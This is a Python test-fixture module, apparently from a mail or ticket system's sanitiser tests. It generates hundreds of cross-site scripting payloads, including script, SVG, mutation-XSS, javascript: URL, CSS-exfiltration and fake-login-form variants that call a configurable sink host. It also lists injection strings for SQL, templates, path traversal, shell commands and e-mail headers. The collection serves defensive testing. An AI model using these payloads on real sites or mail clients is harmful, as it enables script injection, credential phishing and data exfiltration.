"""What strangers send to hurt: formatted bodies that want to run, load or cover, and words that break programs.

Our own families, each in many spellings. `{js}` is what wants to run (a dialog and a request), `{sink}`
an address that counts who asks for it.
"""

from __future__ import annotations

import itertools
from base64 import b64encode
from collections.abc import Iterator
from html import escape
from urllib.parse import quote

JS = "alert(1);new Image().src='{sink}/ran'"

_EVENTS = (
    *("onload", "onerror", "onclick", "onmouseover", "onfocus", "onfocusin", "onanimationstart", "ontransitionend"),
    *("onpointerover", "onwheel", "ontoggle", "onbeforetoggle", "onpageshow", "onscroll", "onresize", "onpaste"),
)
_CARRIERS = (
    *("<img src=x {on}>", "<body {on}>", "<details open {on}>x</details>", "<input autofocus {on}>"),
    *("<video src=x {on}></video>", "<marquee {on}>x</marquee>", "<p tabindex=1 {on} style='width:100%'>x</p>"),
)
_SCRIPTS = (
    "<script>{js}</script>",
    "<SCRIPT>{js}</SCRIPT >",
    "<script\n>{js}</script\t>",
    "<script/x>{js}</script>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<<script>{js}//<</script>",
    "<script src={sink}/ran.js></script>",
    "<script src=data:text/javascript,{js}></script>",
    "<script type=module>{js}</script>",
    "<script type=text/vbscript>{js}</script>",
    "<script>{js}",
    "<script\x00>{js}</script>",
    "<\x00script>{js}</script>",
    "\ufeff<script>{js}</script>",
    "<script x='>'>{js}</script>",
    "</script><script>{js}</script>",
    "<!--><script>{js}</script>-->",
    "<!--- --!><script>{js}</script>",
    "<![CDATA[><script>{js}</script>]]>",
    "<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>{js}</script>",
    "<html:script xmlns:html='http://www.w3.org/1999/xhtml'>{js}</html:script>",
)
_FOREIGN = (
    '<svg onload="{js}">',
    "<svg><script>{js}</script></svg>",
    "<svg><script href='data:text/javascript,{js}'/></svg>",
    '<svg><animate onbegin="{js}" attributeName=x dur=1s>',
    "<svg><set attributeName=href to='javascript:{js}'/><a><text y=9>x</text></a></svg>",
    "<svg><a xlink:href='javascript:{js}'><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)/>#x'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>{js}</script>'></iframe></foreignObject></svg>",
    "<svg><image href='{sink}/ran' /></svg>",
    "<svg><style>@import '{sink}/ran';</style></svg>",
    "<math><a href='javascript:{js}'>x</a></math>",
    "<math><maction actiontype=statusline xlink:href='javascript:{js}'>x</maction></math>",
    '<math><mtext><img src=x onerror="{js}"></mtext></math>',
    "<math href='javascript:{js}'>x</math>",
)
_MUTATING = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={js}&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror={js}>'>",
    "<svg><p><style><a title='</style><img src=x onerror={js}>'>",
    "<math></br><style><a title='</style><img src=x onerror={js}>'>",
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="{js}">',
    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "<template><p title='</template><img src=x onerror={js}>'></template>",
    "<xmp><p title='</xmp><img src=x onerror={js}>'></xmp>",
    "<textarea><p title='</textarea><img src=x onerror={js}>'></textarea>",
    "<title><p title='</title><img src=x onerror={js}>'></title>",
    "<noembed><p title='</noembed><img src=x onerror={js}>'></noembed>",
    "<noframes><p title='</noframes><img src=x onerror={js}>'></noframes>",
    "<iframe><p title='</iframe><img src=x onerror={js}>'></iframe>",
    "<select><template><style><a title='</style></template></select><img src=x onerror={js}>'>",
    "<table><td><a id='x'></table><img src=x onerror=\"{js}\">",
    "<p title='`' onmouseover=\"{js}\">x</p>",
    "<a title='\"><img src=x onerror={js}>'>x</a>",
    "<div title='&quot;&gt;&lt;img src=x onerror={js}&gt;'>x</div>",
    "<b><i><b><i></b></i></b><img/src/onerror={js}>",
    "<img src='x' alt='--><script>{js}</script><!--'>",
    "<listing>&lt;img src=x onerror={js}&gt;</listing>",
    "<annotation-xml encoding='text/html'><style><img src=x onerror=\"{js}\"></style></annotation-xml>",
    '<plaintext><img src=x onerror="{js}">',
    "<frameset onload=\"{js}\"><frame src='javascript:{js}'></frameset>",
)
_SCHEMES = (
    *("javascript:{js}", "JaVaScRiPt:{js}", " javascript:{js}", "java\tscript:{js}", "java\nscript:{js}"),
    *("&#106;avascript:{js}", "&#x6A;avascript:{js}", "javascript&colon;{js}", "java&Tab;script:{js}"),
    *("\x01javascript:{js}", "javascript://%0a{js}", "vbscript:{js}", "data:text/html,<script>{js}</script>"),
    *("data:text/html;base64,{b64}", "data:application/xhtml+xml,<script>{js}</script>", "blob:{sink}/x"),
    *("jar:{sink}/x.jar!/x", "view-source:{sink}/ran", "feed:javascript:{js}", "filesystem:{sink}/x"),
)
_LINKED = ('<a href="{url}">x</a>', '<iframe src="{url}"></iframe>', '<img src="{url}">', '<embed src="{url}">')
_REDIRECTS = (
    "<meta http-equiv=refresh content='0;url={sink}/ran'>",
    "<meta http-equiv=refresh content='0;url=javascript:{js}'>",
    "<meta http-equiv=Set-Cookie content='onestop=evil'>",
    "<base href='{sink}/'><img src=ran>",
    "<base target=_top><a href='{sink}/ran'>x</a>",
    "<iframe srcdoc='<script>{js}</script>'></iframe>",
    "<iframe srcdoc='&lt;script&gt;{js}&lt;/script&gt;'></iframe>",
    "<iframe src={sink}/ran></iframe>",
    "<object data='{sink}/ran'></object>",
    "<object data='data:text/html;base64,{b64}'></object>",
    "<applet code=x archive={sink}/ran></applet>",
    "<portal src={sink}/ran></portal>",
    "<fencedframe src={sink}/ran></fencedframe>",
    "<form action={sink}/ran><input name=password><button autofocus>Sign in</button></form>",
    "<form id=f action={sink}/ran></form><button form=f formaction='javascript:{js}'>x</button>",
    "<isindex action='javascript:{js}' type=submit>",
    "<a href='{sink}/ran' ping='{sink}/ran' target=_top>x</a>",
    "<link rel=prefetch href={sink}/ran>",
    "<link rel=dns-prefetch href={sink}>",
    "<link rel=import href='data:text/html,<script>{js}</script>'>",
)
_STYLES = (
    "<style>@import '{sink}/ran';</style>",
    "<style>body{{background:url({sink}/ran)}}</style>",
    "<style>@font-face{{font-family:x;src:url({sink}/ran)}}p{{font-family:x}}</style><p>x</p>",
    "<style>p[title^='s']{{background:url({sink}/ran)}}</style><p title=secret>x</p>",
    "<p style='background:url({sink}/ran)'>x</p>",
    "<p style='background-image:image-set(\"{sink}/ran\" 1x)'>x</p>",
    "<p style='background:u\\72l({sink}/ran)'>x</p>",
    "<p style='list-style:url({sink}/ran)'>x</p>",
    "<p style='content:url({sink}/ran)'>x</p>",
    "<p style='cursor:url({sink}/ran),auto'>x</p>",
    "<p style='border-image:url({sink}/ran)'>x</p>",
    "<p style='filter:url({sink}/ran#x)'>x</p>",
    "<p style='mask:url({sink}/ran)'>x</p>",
    "<p style='width:expression({js})'>x</p>",
    "<p style='behavior:url({sink}/ran.htc)'>x</p>",
    "<p style='-moz-binding:url({sink}/ran)'>x</p>",
    "<p style='--x:url({sink}/ran);background:var(--x)'>x</p>",
    "<p style='position:fixed;inset:0;z-index:99999;background:white'>Sign in again</p>",
    "<font color='red;background:url({sink}/ran)'>x</font>",
)
REMOTE = (
    "<img src='{sink}/loaded'>",
    "<img srcset='{sink}/loaded 1x, {sink}/loaded 2x'>",
    "<table background='{sink}/loaded'><tr><td>x</td></tr></table>",
    "<p style='background-image:url({sink}/loaded)'>x</p>",
    "<link rel=stylesheet href='{sink}/loaded.css'>",
    "<style>@import url({sink}/loaded.css);</style>",
)
"""The six ways in which a mail tells its sender who reads it."""
_MORE_REMOTE = (
    "<picture><source srcset='{sink}/ran'><img src=x></picture>",
    "<video src='{sink}/ran' autoplay></video>",
    "<video poster='{sink}/ran'></video>",
    "<audio src='{sink}/ran' autoplay></audio>",
    "<input type=image src='{sink}/ran'>",
    "<body background='{sink}/ran'>",
    "<img src='//{host}/ran'>",
    "<img src='\\\\{host}\\ran'>",
    "<img lowsrc='{sink}/ran' dynsrc='{sink}/ran'>",
    "<bgsound src='{sink}/ran'>",
    "<track src='{sink}/ran'>",
)

NAUGHTY = (
    *(
        "undefined",
        "null",
        "NaN",
        "true",
        "-1",
        "1e309",
        "0x0",
        "__proto__",
        "constructor",
        "toString",
        "hasOwnProperty",
    ),
    *(
        "'; DROP TABLE tickets;--",
        '" OR ""="',
        "1' OR '1'='1",
        "%s%n%x",
        "{{7*7}}",
        "${7*7}",
        "#{7*7}",
        "{0.__class__}",
    ),
    *(
        "{% debug %}",
        "<%= 7*7 %>",
        "../../../etc/passwd",
        "..\\..\\boot.ini",
        "file:///etc/passwd",
        "$(id)",
        "`id`",
        "|id",
    ),
    *(
        "=1+1",
        "+1",
        "@SUM(1)",
        "-2+3",
        "\t=1",
        "CON",
        "nul.txt",
        "aux",
        ".",
        "..",
        "~",
        "\\",
        "/",
        "//",
        "?",
        "#",
        "&amp;",
    ),
    *(
        "Ω≈ç√∫˜µ≤≥÷",
        "Ṱ̺̺o͞ ̷i̲̬n̝̗v̟̜o̘k̬e͟",
        "田中さんにあげて下さい",
        "مُنَاقَشَةُ سُبُلِ",
        "בְּרֵאשִׁית",
        "𠜎𠜱𠝹",
        "👩‍👩‍👧‍👦🏳️‍🌈",
        "🇺🇸🇷",
        "١٢٣",
        "ﷺ",
    ),
    *(
        "\u202etxt.exe",
        "\u2066abc\u2069",
        "a\u200bb",
        "\ufeffx",
        "\u00ad",
        "\u2028",
        "\u0000",
        "\u0007",
        "\x1b[31mred",
        "\ud7ff\uffff",
    ),
    *(
        "İstanbul ıI",
        "ß ẞ ﬁ",
        "ĳ ǆ",
        "x" * 1500,
        "W" * 300,
        "a " * 400,
        "\n\n\n",
        "\r\nBcc: evil@example.org",
        " ",
        "\t",
    ),
    *("Reply-To: x\r\n", "user@example.org\nX: y", '"quoted" <a@b>', "a,b;c", "名" * 300, "ก็็็็็็็็็็็็็็็", "؂؃؄"),
    *(
        "<b>bold</b>",
        "<!--",
        "-->",
        "]]>",
        "</textarea>",
        "</title>",
        '"><u>x',
        "'><u>x",
        "&lt;script&gt;",
        "\\u003cscript\\u003e",
    ),
    *("javascript:alert(1)", "data:text/html,x", "http://a/%00", "https://例え.テスト", "mailto:x@y?bcc=z", "tel:+1"),
)
"""Words that somebody's program once stumbled over: each must be shown as what it is."""


def bodies(*, sink: str) -> list[str]:
    """Every formatted body, ready to send."""
    words = {"sink": sink, "host": sink.partition("//")[2], "js": JS.format(sink=sink)}
    words["b64"] = b64encode(f"<script>{words['js']}</script>".encode()).decode()
    return list(dict.fromkeys(body.format(**words) for body in _templates()))


def _templates() -> Iterator[str]:
    yield from (*_SCRIPTS, *_FOREIGN, *_MUTATING, *_REDIRECTS, *_STYLES, *REMOTE, *_MORE_REMOTE)
    for event, carrier in itertools.product(_EVENTS, _CARRIERS):
        yield carrier.replace("{on}", f'{event}="{{js}}"')
    for scheme, carrier in itertools.product(_SCHEMES, _LINKED):
        yield carrier.replace("{url}", scheme)
    yield from _encoded("<img src=x onerror={js}>")


def _encoded(body: str) -> Iterator[str]:
    """The same thing in the clothes of other encodings."""
    yield escape(body)
    yield escape(escape(body))
    yield quote(body, safe="{}")
    yield "".join(f"&#{ord(sign)};" for sign in "<img src=x onerror=alert(1)>")
    yield "".join(f"\\u{ord(sign):04x}" for sign in "<img src=x onerror=alert(1)>")
    yield body.replace("<", "\uff1c").replace(">", "\uff1e")
    yield body.replace("<", "+ADw-").replace(">", "+AD4-")
    yield body.replace("<", "\xbc").replace(">", "\xbe")
    yield body.replace(" ", "/")
    yield body.replace(" ", "\x0c")
    yield body.replace("=", "\u00a0=")
    yield body.replace(">", "")
